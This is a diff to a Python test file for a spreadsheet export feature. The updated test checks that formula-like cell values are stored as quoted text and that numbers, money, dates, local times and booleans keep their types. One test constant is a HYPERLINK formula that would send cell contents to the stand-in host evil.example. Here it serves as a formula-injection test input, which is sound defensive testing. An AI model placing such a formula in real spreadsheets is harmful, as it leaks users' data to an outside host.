@@ -2,11 +2,14 @@
 import io
 from decimal import Decimal
 
-from openpyxl import Workbook, load_workbook
+from datetime import date, datetime
+
+from openpyxl import load_workbook
 
 from dutydesk.archive.excel import export_workbook
 from dutydesk.archive.models import Resident, Unit
-from dutydesk.core.excel import safe_row
+from dutydesk.core import clock
+from dutydesk.core.excel import ExportWorkbook
 from tests.factories import ResidentFactory
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
@@ -17,15 +20,22 @@ def _reload(data):
 
 
 def test_formula_like_text_is_written_as_text_and_other_values_keep_their_type():
-    workbook = Workbook()
-    sheet = workbook.active
-    sheet.append(safe_row(sheet, [EVIL, "+8613912345678", "-1", "@SUM(A1)", "张三", 5, Decimal("1.50"), None]))
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    row = list(_reload(buffer.getvalue()).active.iter_rows(values_only=False))[0]
+    workbook = ExportWorkbook()
+    sheet = workbook.sheet("导出", ["文本"] * 4 + ["姓名", "数", "金额", "空", "日期", "时间", "是否"])
+    received = clock.at(date(2026, 11, 3), "09:05")  # aware, Asia/Shanghai
+    sheet.append([EVIL, "+8613912345678", "-1", "@SUM(A1)", "张三", 5, Decimal("1.50"), None, date(2026, 11, 3),
+                  received, True])
+    header, row = list(_reload(workbook.content()).worksheets[0].iter_rows(values_only=False))
+    assert [c.value for c in header][:2] == ["文本", "文本"]
     assert [c.data_type for c in row[:4]] == ["s", "s", "s", "s"]
+    assert all(c.quotePrefix for c in row[:4]) and not row[4].quotePrefix
     assert [c.value for c in row[:5]] == [EVIL, "+8613912345678", "-1", "@SUM(A1)", "张三"]
     assert row[5].value == 5 and row[5].data_type == "n"
+    assert row[6].value == 1.5 and row[6].number_format == "0.00"  # money shows its two decimals
+    assert row[7].value is None
+    assert row[8].value == datetime(2026, 11, 3) and row[8].number_format == "yyyy-mm-dd"
+    assert row[9].value == datetime(2026, 11, 3, 9, 5)  # the local time, not UTC (01:05)
+    assert row[10].value is True
 
 
 def test_a_resident_named_like_a_formula_is_exported_as_text(unit):
